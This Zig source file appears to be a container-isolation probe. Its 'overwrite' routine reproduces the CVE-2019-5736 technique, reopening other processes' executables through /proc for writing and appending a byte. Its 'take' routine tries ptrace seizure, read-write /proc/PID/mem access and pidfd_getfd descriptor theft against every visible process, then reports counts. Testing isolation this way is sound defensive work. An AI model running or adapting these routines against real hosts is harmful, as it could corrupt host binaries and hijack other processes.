//! Run in a container: what it tries on every other process that it sees, again and again until there is a
//! file that ends it.

const std = @import("std");
const linux = std.os.linux;
const json = @import("json.zig");

/// Processes with this executable are the container's own.
const own_executable = "/probe";

const Processes = struct {
    directory: i32,
    buffer: [32 * 1024]u8 align(8) = undefined,
    filled: usize = 0,
    at: usize = 0,

    fn open() Processes {
        const flags: linux.O = .{ .DIRECTORY = true, .CLOEXEC = true };
        return .{ .directory = @intCast(linux.open("/proc", flags, 0)) };
    }

    fn close(processes: *Processes) void {
        _ = linux.close(processes.directory);
    }

    /// Of all but this one.
    fn next(processes: *Processes) ?i32 {
        while (true) {
            if (processes.at == processes.filled) {
                const fd: usize = @intCast(processes.directory);
                const rc =
                    linux.syscall3(.getdents64, fd, @intFromPtr(&processes.buffer), processes.buffer.len);
                if (linux.errno(rc) != .SUCCESS or rc == 0) return null;
                processes.filled = rc;
                processes.at = 0;
            }
            const record = processes.buffer[processes.at..];
            const length = std.mem.readInt(u16, record[16..18], .little);
            processes.at += length;
            const pid = std.fmt.parseInt(i32, std.mem.sliceTo(record[19..length], 0), 10) catch continue;
            if (pid != linux.getpid()) return pid;
        }
    }
};

fn is_there(path: [:0]const u8) bool {
    return linux.errno(linux.access(path, 0)) == .SUCCESS;
}

fn file_of(buffer: *[64]u8, pid: i32, name: []const u8) [:0]const u8 {
    return std.fmt.bufPrintSentinel(buffer, "/proc/{d}/{s}", .{ pid, name }, 0) catch unreachable;
}

/// Where a link leads; empty where that is not for this process to know.
fn target_of(buffer: *[256]u8, link: [:0]const u8) []const u8 {
    const rc = linux.readlinkat(linux.AT.FDCWD, link, buffer, buffer.len);
    return if (linux.errno(rc) == .SUCCESS) buffer[0..rc] else "";
}

const Executable = enum { own, other, ended };

/// What it executes; of whom this process may not know it, it is another.
fn executable_of(pid: i32) Executable {
    var name: [64]u8 = undefined;
    var target: [256]u8 = undefined;
    const rc = linux.readlinkat(linux.AT.FDCWD, file_of(&name, pid, "exe"), &target, target.len);
    return switch (linux.errno(rc)) {
        .SUCCESS => if (std.mem.eql(u8, target[0..rc], own_executable)) .own else .other,
        .NOENT, .SRCH => .ended,
        else => .other,
    };
}

const kept_max = 64;

/// `overwrite:STOP`: opens the executable of every other process, and then, again and again, what was opened
/// for writing (CVE-2019-5736), until there is a file STOP. → how often: `refused`, `opened`, `writable`,
/// `written`
pub fn overwrite(stop: [:0]const u8) void {
    var kept: [kept_max]i32 = @splat(-1);
    var refused: u64 = 0;
    var opened: u64 = 0;
    var writable: u64 = 0;
    var written: u64 = 0;
    while (!is_there(stop)) {
        var processes: Processes = .open();
        defer processes.close();
        while (processes.next()) |pid| {
            var name: [64]u8 = undefined;
            const rc = linux.open(file_of(&name, pid, "exe"), .{ .CLOEXEC = true, .NONBLOCK = true }, 0);
            if (linux.errno(rc) != .SUCCESS) {
                refused += 1;
                continue;
            }
            const fd: i32 = @intCast(rc);
            var target: [256]u8 = undefined;
            if (std.mem.eql(u8, target_of(&target, descriptor(&name, fd)), own_executable)) {
                _ = linux.close(fd);
                continue;
            }
            const place = &kept[opened % kept_max];
            if (place.* >= 0) _ = linux.close(place.*);
            place.* = fd;
            opened += 1;
        }
        for (kept) |fd| {
            if (fd < 0) continue;
            var name: [64]u8 = undefined;
            const flags: linux.O = .{ .ACCMODE = .WRONLY, .APPEND = true, .CLOEXEC = true };
            const rc = linux.open(descriptor(&name, fd), flags, 0);
            if (linux.errno(rc) != .SUCCESS) continue;
            writable += 1;
            if (linux.errno(linux.write(@intCast(rc), "x", 1)) == .SUCCESS) written += 1;
            _ = linux.close(@intCast(rc));
        }
        _ = linux.syscall0(.sched_yield);
    }
    json.field("refused", refused);
    json.field("opened", opened);
    json.field("writable", writable);
    json.field("written", written);
}

fn descriptor(buffer: *[64]u8, fd: i32) [:0]const u8 {
    return std.fmt.bufPrintSentinel(buffer, "/proc/self/fd/{d}", .{fd}, 0) catch unreachable;
}

const Attempt = enum { refused, own, taken };

/// `take:STOP`: traces every other process, opens its memory, and takes its descriptors, again and again
/// until there is a file STOP. → how often it was `refused`, met the container's `own`, and how often others
/// were `taken`
pub fn take(stop: [:0]const u8) void {
    var counts: [3]u64 = @splat(0);
    while (!is_there(stop)) {
        var processes: Processes = .open();
        defer processes.close();
        while (processes.next()) |pid| {
            for ([_]*const fn (i32) ?Attempt{ trace, open_memory, take_descriptor }) |attempt| {
                if (attempt(pid)) |outcome| counts[@intFromEnum(outcome)] += 1;
            }
        }
        _ = linux.syscall0(.sched_yield);
    }
    json.field("refused", counts[@intFromEnum(Attempt.refused)]);
    json.field("own", counts[@intFromEnum(Attempt.own)]);
    json.field("taken", counts[@intFromEnum(Attempt.taken)]);
}

/// → null: the process has ended.
fn outcome_of(rc: usize) ?Attempt {
    return switch (linux.errno(rc)) {
        .SUCCESS => .taken,
        .SRCH, .NOENT => null,
        else => .refused,
    };
}

/// ptrace(2)
fn trace(pid: i32) ?Attempt {
    const outcome = outcome_of(linux.ptrace(linux.PTRACE.SEIZE, pid, 0, 0, 0));
    if (outcome != .taken) return outcome;
    _ = linux.ptrace(linux.PTRACE.INTERRUPT, pid, 0, 0, 0);
    var status: u32 = 0;
    const wait_all = 0x40000000; // __WALL
    const waited = linux.wait4(pid, &status, wait_all, null);
    const is_stopped = linux.errno(waited) == .SUCCESS and status & 0xff == 0x7f;
    if (!is_stopped) return null;
    defer _ = linux.ptrace(linux.PTRACE.DETACH, pid, 0, 0, 0);
    return of_taken(pid);
}

fn open_memory(pid: i32) ?Attempt {
    var name: [64]u8 = undefined;
    const rc = linux.open(file_of(&name, pid, "mem"), .{ .ACCMODE = .RDWR, .CLOEXEC = true }, 0);
    if (linux.errno(rc) == .SUCCESS) _ = linux.close(@intCast(rc));
    const outcome = outcome_of(rc);
    return if (outcome == .taken) of_taken(pid) else outcome;
}

/// pidfd_getfd(2)
fn take_descriptor(pid: i32) ?Attempt {
    const process = linux.syscall2(.pidfd_open, @intCast(pid), 0);
    if (linux.errno(process) != .SUCCESS) return null;
    defer _ = linux.close(@intCast(process));
    const rc = linux.syscall3(.pidfd_getfd, process, 0, 0);
    if (linux.errno(rc) == .SUCCESS) _ = linux.close(@intCast(rc));
    // It may have closed its standard input.
    if (linux.errno(rc) == .BADF) return null;
    const outcome = outcome_of(rc);
    return if (outcome == .taken) of_taken(pid) else outcome;
}

/// One that has become the container's program meanwhile was that: it takes much longer until it does.
fn of_taken(pid: i32) ?Attempt {
    return switch (executable_of(pid)) {
        .own => .own,
        .other => .taken,
        .ended => null,
    };
}
